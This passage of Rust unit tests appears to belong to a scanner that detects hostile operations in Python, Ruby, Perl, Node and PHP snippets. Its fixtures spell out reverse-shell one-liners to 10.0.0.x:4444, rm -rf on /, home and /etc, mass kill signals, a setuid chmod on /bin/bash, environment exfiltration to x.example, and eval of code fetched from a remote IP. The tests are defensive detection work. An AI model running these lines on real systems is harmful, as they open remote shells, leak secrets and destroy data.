            (Lang::Python, "import os; os.kill(-1, 9)", &[Some("kill"), Some("-9"), Some("-1")]),
            (Lang::Python, "import os; os.killpg(42, 15)", &[Some("kill"), Some("-15"), Some("-42")]),
            (Lang::Python, "import os; s = 'KILL'; os.kill(1234, s)", &[Some("kill"), Some("-KILL"), Some("1234")]),
            // the body's own child or itself is a job spec, not a dynamic target
            (Lang::Python, "import subprocess,os,signal; p = subprocess.Popen(['sleep','9']); os.kill(p.pid, signal.SIGKILL)", &[Some("kill"), Some("-KILL"), Some("%child")]),
            (Lang::Python, "import os; pid = os.fork(); os.kill(pid, 9)", &[Some("kill"), Some("-9"), Some("%child")]),
            // a signal in a variable nobody knows is unknown
            (Lang::Python, "import os; os.kill(1234, sig)", &[Some("kill"), None, Some("1234")]),
            // the other languages
            (Lang::Ruby, "Process.kill(:KILL, pid)", &[Some("kill"), Some("-KILL"), None]),
            (Lang::Ruby, "Process.kill('TERM', 1234, pid)", &[Some("kill"), Some("-TERM"), Some("1234"), None]),
            (Lang::Perl, "kill 9, $pid", &[Some("kill"), Some("-9"), None]),
            (Lang::Perl, "kill 'KILL', -1", &[Some("kill"), Some("-KILL"), Some("-1")]),
            (Lang::Node, "process.kill(pid, 'SIGKILL')", &[Some("kill"), Some("-KILL"), None]),
            (Lang::Node, "process.kill(process.pid)", &[Some("kill"), Some("-TERM"), Some("%child")]),
            (Lang::Php, "posix_kill($pid, 9);", &[Some("kill"), Some("-9"), None]),
        ];
        for (lang, code, want) in cases {
            let want: Vec<Option<String>> = want.iter().map(|x| x.map(str::to_string)).collect();
            assert_eq!(kills(*lang, code), [want], "{code}");
        }
        // a Popen object's own method is not `os.kill`
        assert!(kills(
            Lang::Python,
            "import subprocess; p = subprocess.Popen(['x']); p.kill()"
        )
        .is_empty());
    }

    #[test]
    fn reverse_shells() {
        let f = py("import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])");
        assert!(f.contains(&Found::ReverseShell("10.0.0.1".into())));
        assert!(!py("import socket; print(socket.gethostname())")
            .iter()
            .any(|f| matches!(f, Found::ReverseShell(_))));
        let p = scan(
            Lang::Perl,
            r#"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.2")));open(STDIN,">&S");exec("/bin/sh -i");"#,
        );
        assert!(p.iter().any(|f| matches!(f, Found::ReverseShell(_))));
        let n = scan(Lang::Node, "const n=require('net'),c=require('child_process');const s=n.connect(4444,'10.1.1.2');const sh=c.spawn('/bin/sh');s.pipe(sh.stdin)");
        assert!(n.iter().any(|f| matches!(f, Found::ReverseShell(_))));
        assert!(!scan(
            Lang::Node,
            "const n=require('net'); n.createServer().listen(8080)"
        )
        .iter()
        .any(|f| matches!(f, Found::ReverseShell(_))));
    }

    #[test]
    fn other_languages() {
        assert!(
            scan(Lang::Perl, "system(\"rm -rf /home\")").contains(&Found::Shell {
                text: "rm -rf /home".into(),
                dynamic: false
            })
        );
        assert!(scan(Lang::Perl, "`rm -rf ~`").contains(&Found::Shell {
            text: "rm -rf ~".into(),
            dynamic: false
        }));
        assert!(
            scan(Lang::Ruby, "exec \"/bin/sh -c \\\"rm -rf /srv\\\"\"").contains(&Found::Shell {
                text: "/bin/sh -c \"rm -rf /srv\"".into(),
                dynamic: false
            })
        );
        assert!(
            scan(Lang::Ruby, "require 'fileutils'; FileUtils.rm_rf(Dir.home)").contains(
                &Found::Delete {
                    path: Some("~".into()),
                    recursive: true
                }
            )
        );
        assert!(
            scan(Lang::Node, "require('child_process').execSync('rm -rf ~')").contains(
                &Found::Shell {
                    text: "rm -rf ~".into(),
                    dynamic: false
                }
            )
        );
        assert!(scan(
            Lang::Node,
            "require('fs').rmSync('/etc', {recursive: true})"
        )
        .contains(&Found::Delete {
            path: Some("/etc".into()),
            recursive: true
        }));
        assert!(
            scan(Lang::Php, "system(\"rm -rf /\");").contains(&Found::Shell {
                text: "rm -rf /".into(),
                dynamic: false
            })
        );
        assert!(scan(Lang::Ruby, "puts RUBY_VERSION").is_empty());
        assert!(scan(Lang::Node, "console.log(process.version)").is_empty());
        assert!(scan(Lang::Php, "echo phpversion();").is_empty());
    }

    #[test]
    fn bounded_on_junk() {
        let junk = "(".repeat(100_000) + &"'".repeat(1000) + "os.system(";
        let _ = scan(Lang::Python, &junk);
        let _ = scan(Lang::Perl, "qx(");
        let _ = scan(Lang::Ruby, "%x{");
        let _ = scan(Lang::Python, "\"\"\"");
    }

    /// One line per fact: (language, body, a fact it must give, true = given / false = not).
    #[test]
    fn facts_of_runtimes_drivers_and_the_environment() {
        let argv = |v: &[&str]| Found::Argv(v.iter().map(|s| Some(s.to_string())).collect());
        let cases: Vec<(Lang, &str, Found, bool)> = vec![
            // Deno's own delete, recursive only with the option
            (
                Lang::Node,
                "await Deno.remove('/srv/x', { recursive: true })",
                Found::Delete {
                    path: Some("/srv/x".into()),
                    recursive: true,
                },
                true,
            ),
            (
                Lang::Node,
                "Deno.removeSync('a.txt')",
                Found::Delete {
                    path: Some("a.txt".into()),
                    recursive: false,
                },
                true,
            ),
            // the whole environment, read by a body that also fetches
            (
                Lang::Node,
                "fetch('https://x.example/?d=' + JSON.stringify(process.env))",
                Found::ReadEnv,
                true,
            ),
            (
                Lang::Python,
                "import os,requests; requests.post('https://x.example/', json=dict(os.environ))",
                Found::ReadEnv,
                true,
            ),
            (
                Lang::Python,
                "import os; print(dict(os.environ))",
                Found::ReadEnv,
                false,
            ),
            (
                Lang::Node,
                "fetch('https://x.example/' + process.env.USER)",
                Found::ReadEnv,
                false,
            ),
            // mode changes as the chmod they amount to (Python reads 493 as decimal)
            (
                Lang::Python,
                "import os; os.chmod('/bin/bash', 0o4755)",
                argv(&["chmod", "4755", "/bin/bash"]),
                true,
            ),
            (
                Lang::Python,
                "import os; os.chmod('x', 493)",
                argv(&["chmod", "755", "x"]),
                true,
            ),
            (
                Lang::Perl,
                "chmod 04755, '/bin/sh'",
                argv(&["chmod", "04755", "/bin/sh"]),
                true,
            ),
            (
                Lang::Ruby,
                "File.chmod(0644, 'a')",
                argv(&["chmod", "0644", "a"]),
                true,
            ),
            // SQL through a driver's method, as psql -c would run it
            (
                Lang::Python,
                "c.cursor().execute('DROP TABLE users')",
                argv(&["psql", "-c", "DROP TABLE users"]),
                true,
            ),
            (
                Lang::Node,
                "client.query('TRUNCATE orders')",
                argv(&["psql", "-c", "TRUNCATE orders"]),
                true,
            ),
            (
                Lang::Python,
                "c.execute(sql)",
                argv(&["psql", "-c", "sql"]),
                false,
            ),
            // LWP::Simple's get, evaluated
            (
                Lang::Perl,
                "eval get('http://203.0.113.7/p.pl')",
                Found::RunFetched,
                true,
            ),
            (
                Lang::Perl,
                "print get('https://example.com/')",
                Found::RunFetched,
                false,
            ),
        ];
        for (lang, code, fact, given) in cases {
            assert_eq!(
                scan(lang, code).contains(&fact),
                given,
                "{lang:?} {code}: {fact:?}"
            );
        }
    }
}
